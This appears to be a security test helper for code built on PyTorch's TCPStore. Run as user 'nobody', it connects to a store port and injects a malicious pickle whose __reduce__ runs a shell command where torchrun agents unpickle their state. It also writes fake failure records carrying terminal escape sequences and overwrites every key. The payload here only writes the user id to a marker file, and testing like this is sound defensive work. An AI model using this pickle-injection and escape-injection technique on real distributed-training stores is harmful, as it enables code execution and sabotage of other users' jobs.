"""What another user of the machine, or whoever reaches a port, does to a store: run as a script by
`intrude`.

It imports PyTorch first, becomes the user "nobody", and only then connects.
"""

from __future__ import annotations

import json
import os
import pickle
import subprocess
import sys
from base64 import b64encode
from collections.abc import Callable, Sequence
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore  # type: ignore[attr-defined]  # exported by a star import

NOBODY = 65534
WITHIN_S = 60
# Clears the screen and sets the title of the window.
TEXT = "\x1b[2J\x1b]0;owned\x07all is well"
FAILURE = {
    "rank": 0,
    "stage": 0,
    "message": TEXT,
    "hint": TEXT,
    "exit_code": 0,
    "consequence": False,
    "again": False,
}


class Payload:
    """Writes who runs it into a file where it is unpickled."""

    def __init__(self, marker: str) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, tuple[list[str]]]:
        return subprocess.call, (["sh", "-c", f"id -u > {self._marker}"],)


def intrude(
    host: str, port: int, act: str, *arguments: str, launcher: Sequence[str] = ()
) -> list[str]:
    """Let another user act on the store at a port; return what he says, line by line."""
    command = [*launcher, sys.executable, __file__, host, str(port), act, *arguments]
    environment = {**os.environ, "PYTHONPATH": str(Path.cwd())}
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=WITHIN_S, check=False, env=environment
    )
    return [*done.stdout.splitlines(), *done.stderr.splitlines()[-1:]]


def _keys(store: TCPStore) -> list[str]:
    # PyTorch 2.7 cannot list them.
    return list(store.list_keys()) if hasattr(store, "list_keys") else []


def _run_code(store: TCPStore, run: str, marker: str) -> None:
    """Put a pickle where torchrun's agents look for their state, and under all keys that
    are there.
    """
    pickled = b64encode(pickle.dumps(Payload(marker))).decode()
    for key in (f"torch.rendezvous.{run}", *_keys(store)):
        store.set(key, pickled)


def _end(store: TCPStore) -> None:
    """Report a failure that ends the run, with exit code 0 and a text that commands the
    terminal.
    """
    text = json.dumps(FAILURE)
    for start in range(3):
        store.set(f"plan/{start}/failure/0", text)
        store.set(f"plan/{start}/cause", "0")


def _overwrite(store: TCPStore) -> None:
    """Write that failure under all keys that are there."""
    for key in _keys(store):
        store.set(key, json.dumps(FAILURE))


if __name__ == "__main__":
    host, port, act, *arguments = sys.argv[1:]
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    store = TCPStore(
        host, int(port), is_master=False, wait_for_workers=False, timeout=timedelta(seconds=10)
    )
    acts: dict[str, Callable[..., None]] = {
        "run_code": _run_code,
        "end": _end,
        "overwrite": _overwrite,
    }
    acts[act](store, *arguments)
    sys.stdout.write(f"{os.getuid()} did {act}\n")
